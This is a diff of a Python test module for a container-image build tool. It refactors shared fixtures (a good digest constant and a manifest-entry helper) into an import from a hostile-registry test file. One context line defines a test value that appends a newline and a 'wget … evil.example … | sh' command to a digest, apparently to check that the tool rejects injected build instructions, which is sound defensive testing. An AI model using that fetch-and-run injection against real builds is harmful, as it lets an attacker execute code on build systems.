@@ -27,11 +27,11 @@ from factory.records import CompatibilityRecord, ImageInfo
 from factory.registry import DOCKER_MANIFEST, OCI_INDEX, OCI_MANIFEST, RegistryClient
 from factory.retention import plan_gc
 from factory.verify import verify_build
+from tests.unit.test_hostile_registry import GOOD, entry
 
 REPO = Path(__file__).resolve().parents[2]
 REPOSITORY = "factory/base/busybox"
 TAG = "1.35"
-GOOD = "sha256:" + "a" * 64
 TIMEOUT_S = 1.0  # the client's per-read timeout; a whole answer gets 3x this
 CASE_LIMIT_S = 10.0
 NEWLINE_DIGEST = GOOD + "\nRUN wget -q -O- http://evil.example/x | sh"
@@ -84,17 +84,6 @@ def reply(h, status=200, body=b"", content_type=OCI_INDEX, headers=None, length=
 def answer(body, content_type=OCI_INDEX, status=200, headers=None):
     data = body if isinstance(body, bytes) else json.dumps(body).encode()
     return lambda h: reply(h, status, data, content_type, headers)
-
-
-def entry(**overrides) -> dict:
-    value = {
-        "mediaType": DOCKER_MANIFEST,
-        "size": 527,
-        "digest": GOOD,
-        "platform": {"architecture": "amd64", "os": "linux"},
-    }
-    value.update(overrides)
-    return {k: v for k, v in value.items() if v is not ...}
 
 
 def index(*entries) -> dict:
